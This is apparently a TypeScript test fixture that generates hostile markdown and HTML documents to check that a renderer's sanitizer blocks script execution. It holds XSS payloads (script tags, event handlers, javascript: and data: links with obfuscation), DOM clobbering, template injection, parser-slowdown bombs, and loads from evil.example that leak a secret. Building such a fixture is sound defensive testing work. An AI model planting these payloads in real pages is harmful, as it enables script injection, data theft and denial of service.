// Hostile documents: each of BASES in each of MUTATIONS, the same ones every time. Whatever would run sets `pwned`.

const RUN = "window.pwned=1;alert(1)";

const BASES: Record<string, string> = {
  script: `<script>${RUN}</script>`,
  "script from elsewhere": `<script src="https://evil.example/x.js"></script><script type=module>import "https://evil.example/y.js"</script>`,
  handler: `<img src=x onerror="${RUN}"><body onload="${RUN}"><details open ontoggle="${RUN}">`,
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  "svg animation": `<svg><animate onbegin="${RUN}" attributeName=x dur=1s><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  mathml: `<math><maction actiontype="statusline#javascript:${RUN}" xlink:href="javascript:${RUN}">click</maction></math>`,
  frame: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="data:text/html,<script>${RUN}</script>"></object><embed src="//evil.example">`,
  form: `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}" autofocus onfocus="${RUN}">go</button></form>`,
  meta: `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/a.css">`,
  style: `<style>@import "https://evil.example/a.css"; body { background: url(https://evil.example/b.png) } .answer { position: fixed; inset: 0 }</style><p style="position:fixed;inset:0">x</p>`,
  "javascript links": `[a](javascript:${RUN}) [b](<java\nscript:${RUN}>) [c](JaVaScRiPt:${RUN}) [d]( javascript:${RUN}) <javascript:${RUN}>`,
  "javascript in entities": `[a](&#106;avascript:${RUN}) [b](java&Tab;script:${RUN}) [c](&#x6A;&#x61;vascript&colon;${RUN}) [d](javascript&#58;${RUN})`,
  "javascript with controls": `[a](\u0001javascript:${RUN}) [b](java\u0000script:${RUN}) [c](java\tscript:${RUN}) [d](\u00A0javascript:${RUN}) [e](%6Aavascript:${RUN})`,
  "data links": `[a](data:text/html,<script>${RUN}</script>) [b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![c](data:image/svg+xml,<svg onload="${RUN}"/>)`,
  "other schemes": `[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](blob:https://evil.example/x) [d](view-source:https://a.example) [e](intent://x#Intent;end) [f](//evil.example/x) [g](#/connect) [h](/v1/models)`,
  "images that call home": `![x](https://evil.example/p.png?secret) ![y][i] <img src="https://evil.example/q.png">\n\n[i]: https://evil.example/r.png`,
  "reference that runs": `[a][r] [b][s] ![c][r]\n\n[r]: javascript:${RUN}\n[s]: <data:text/html,<script>${RUN}</script>> "title\\" onclick=\\"${RUN}"`,
  "attributes by the title": `[a](https://a.example "x\\" onmouseover=\\"${RUN}") [b](https://b.example '"><script>${RUN}</script>') <https://c.example/"onclick="${RUN}>`,
  "code with html": "```html\"><script>window.pwned=1</script>\n<script>window.pwned=1</script>\n```\n`<img src=x onerror=alert(1)>`",
  "language as attribute": "```js\" onclick=\"window.pwned=1\" class=\"x y z\nlet a = '<b>';\n```\n\n~~~<svg/onload=alert(1)>\nx\n~~~",
  "maths links": `$\\href{javascript:${RUN}}{x}$ $\\url{javascript:${RUN}}$ $\\includegraphics{https://evil.example/a.png}$ $\\class{x}{y}$ $\\id{app}{y}$ $\\style{position:fixed;inset:0}{y}$ $\\data{onclick=alert(1)}{y}$`,
  "maths html": `$\\text{<img src=x onerror=alert(1)>}$ $$\\htmlData{x=1}{y} \\htmlStyle{color:red}{z} \\text{</math><script>${RUN}</script>}$$ \\(\\unicode{x3C}script\\unicode{x3E}\\) \\[ \\ref{x} \\label{y} \\tag{<b>} \\]`,
  "maths bombs": `$\\def\\a{\\a\\a}\\a$ $\\def\\b#1{#1#1#1#1}\\b{\\b{\\b{\\b{\\b{\\b{\\b{x}}}}}}}$ $$\\rule{99999em}{99999em} \\hspace{-9999em} x$$ $${"{".repeat(200)}x${"}".repeat(200)}$$ $${"\\frac{1}{".repeat(60)}x${"}".repeat(60)}$$`,
  bidi: "access \u202E\u2066// admin\u2069 \u2066begin\u202C only \u200F\u200E [pay\u202Ecom.live\u202C](https://evil.example/\u202Etxt.exe) `if\u200B(a\u2066)` \u{E0041}\u{E0042}\uFEFF\u00AD",
  entities: "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3c;svg/onload=alert(1)&#x3e; &amp;lt;b&amp;gt; &#0; &#x110000; &#xD800; &#9999999; &#xFFFFFFFF; &notanentity; &;",
  autolinks: "http://evil.example/\"onmouseover=\"alert(1) www.evil.example/<script> https://a.example@evil.example/ https://user:pass@evil.example <mailto:a@b.c?subject=x&body=<script>> ftp://x.y xmpp:a@b.c javascript://a.example/%0Aalert(1)",
  unclosed: "**bold *it `code [link](https://a.example \"t ![img](x <b <!-- <script ```` ~~~ $x \\( $$y \\[ | a | [^1 &#x3c",
  "clobbering": `<a id=lockstepBench name=pwned></a><form name=reports id=app><input name=attributes></form> [__proto__] [constructor][toString]\n\n[__proto__]: https://a.example\n[constructor]: javascript:${RUN}\n[toString]: data:,x`,
  "template signs": "{{constructor.constructor('alert(1)')()}} ${alert(1)} {@html '<b>'} {#if 1}x{/if} <%= 1 %> #{7*7} {alert(1)}",
  "slow: brackets": `${"[".repeat(3000)}${"](x)".repeat(600)} ${"![".repeat(1500)}${"[a](".repeat(800)}`,
  "slow: stars": `${"*a **b ".repeat(700)}${"_a __b ".repeat(700)}${"~a ~~b ".repeat(700)}${"*".repeat(2000)}`,
  "slow: quotes and lists": `${"> ".repeat(1500)}a\n${"- ".repeat(1500)}a\n${"1. ".repeat(800)}a\n${"- > ".repeat(700)}a`,
  "slow: html": `${"<a ".repeat(900)}${"<!--".repeat(700)}${"<![CDATA[".repeat(400)}<a ${"b='".repeat(900)} ${"<div ".repeat(600)}`,
  "slow: signs": `${"\\".repeat(3000)}${"&#".repeat(1500)}${"a@".repeat(1500)}${"www.".repeat(900)}${"`a``b".repeat(600)}${"$a ".repeat(900)}${"|".repeat(2000)}`,
};

const MUTATIONS: Record<string, (text: string) => string> = {
  plain: (text) => text,
  "after a paragraph": (text) => `A first line.\n${text}\nand a last one.`,
  "in a list": (text) => `- ${text.replaceAll("\n", "\n  ")}\n- b\n`,
  "in a quote": (text) => text.split("\n").map((line) => `> ${line}`).join("\n"),
  "in a table": (text) => `| a | b |\n| - | - |\n| ${text.replace(/\n+/g, " ").replaceAll("|", "\\|")} | x |\n`,
  "in emphasis and a link": (text) => `**[${text}](https://a.example)** *${text}*`,
  "in a heading": (text) => `# ${text.replace(/\n+/g, " ")}\n`,
  "in upper case": (text) => text.toUpperCase(),
  "with entities": (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&#62;").replaceAll("\"", "&quot;"),
  "cut off": (text) => text.slice(0, Math.floor(text.length * 0.7)),
};

export function hostileDocuments(): { name: string; text: string }[] {
  return Object.entries(BASES).flatMap(([base, text]) =>
    Object.entries(MUTATIONS).map(([mutation, change]) => ({ name: `${base}, ${mutation}`, text: change(text) })));
}
